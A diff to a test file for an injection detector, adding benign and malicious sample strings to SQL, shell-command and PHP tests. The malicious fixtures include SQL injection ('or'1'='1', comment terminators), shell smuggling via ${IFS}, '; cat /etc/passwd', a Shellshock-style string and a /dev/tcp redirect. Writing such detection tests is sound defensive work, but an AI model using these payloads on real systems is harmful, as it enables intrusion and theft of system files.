@@ -38,6 +38,10 @@ test('SQL: sentences and documents change no statement, and what reads as SQL an
       "l'été (1).jpg",
       "web/lists/getbytitle('Site Pages')/items(7)",
       'what-is-select-from-where',
+      'https://example.org/(en);a=1/b?c=1&&d=2--e',
+      'sum(orders.price)',
+      '1---',
+      'NSb8znT+IJZQ9hN9=||sRBSg3CPSiQ=|onN7fu2vKt8/s=|',
     ],
     [
       "1'/**/or/**/1=1--",
@@ -61,6 +65,8 @@ test('SQL: sentences and documents change no statement, and what reads as SQL an
       "l'or(1).jpg",
       "l'été (select 1).jpg",
       "a'b or 1=1 or 'c",
+      "https://example.org/?a='or'1'='1",
+      '1-- ',
     ],
   )
 })
@@ -74,6 +80,9 @@ test('commands: none stands in sentences, and one behind a separator is found', 
       'a=1&id=5&sort=name',
       'See https://example.org/a?b=1 & the rest of it',
       'query { book(id: 1) { id title } }',
+      'exec summary template',
+      'java 面试题',
+      `https://example.org/s?id=\${USER_ID}&p=\${PARTNER}&c=\${CACHEBUSTER}`,
     ],
     [
       '; cat /etc/passwd',
@@ -88,6 +97,8 @@ test('commands: none stands in sentences, and one behind a separator is found', 
       '() { :;}; x',
       '> /dev/tcp/192.0.2.1/80',
       '; X=1 id',
+      `cat\${IFS}\${PATH}`,
+      `\${SHELL}`,
     ],
   )
 })
@@ -99,6 +110,8 @@ test('PHP: brackets of sentences call nothing', () => {
       'We met (as always) at noon, and the "others" (both of them) came later.',
       'John (the boss); Mary (the chief) (retired);',
       '[Documentation](https://example.org/docs) and [more](./docs/more.md)',
+      'доска объявлений',
+      'https://example.org/a?b=1&c=d',
     ],
     [
       '<?php echo 1;',
